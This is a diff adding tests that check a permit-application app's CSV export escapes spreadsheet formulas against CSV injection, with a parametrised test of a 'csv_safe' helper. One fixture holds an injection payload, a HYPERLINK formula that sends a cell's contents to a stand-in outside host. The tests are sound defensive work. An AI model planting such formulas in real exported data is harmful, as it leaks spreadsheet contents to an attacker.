@@ -143,3 +143,46 @@ def test_results_are_paginated(agent_client, authority):
         PermisDemarcheFactory(submitted=True, authority=authority)
     page = _search(agent_client, nom="corneille").content.decode()
     assert "30 résultats" in page and "1 / 2" in page
+
+
+def test_csv_export_neutralises_formulas(agent_client, authority):
+    """CSV injection: a cell starting with = + - @ tab or CR is prefixed
+    with an apostrophe so a spreadsheet shows it as text."""
+    PermisDemarcheFactory(
+        submitted=True,
+        authority=authority,
+        answers=answers(
+            nom="Dupuis",
+            prenoms=['=HYPERLINK("http://example.com/?x="&A1;"clic")'],
+            motif="@SUM(A1:A9)",
+        ),
+    )
+    response = _search(agent_client, nom="dupuis", format="csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert len(rows) == 2
+    row = rows[1]
+    assert row[1] == "Dupuis"
+    assert row[2].startswith("'=HYPERLINK(")
+    assert row[7] == "'@SUM(A1:A9)"
+
+
+@pytest.mark.parametrize(
+    "value,expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+33 6 12", "'+33 6 12"),
+        ("-2", "'-2"),
+        ("@cmd", "'@cmd"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Ménard", "Ménard"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (None, ""),
+        (12, "12"),
+    ],
+)
+def test_csv_safe(value, expected):
+    from titres.instruction.views import csv_safe
+
+    assert csv_safe(value) == expected
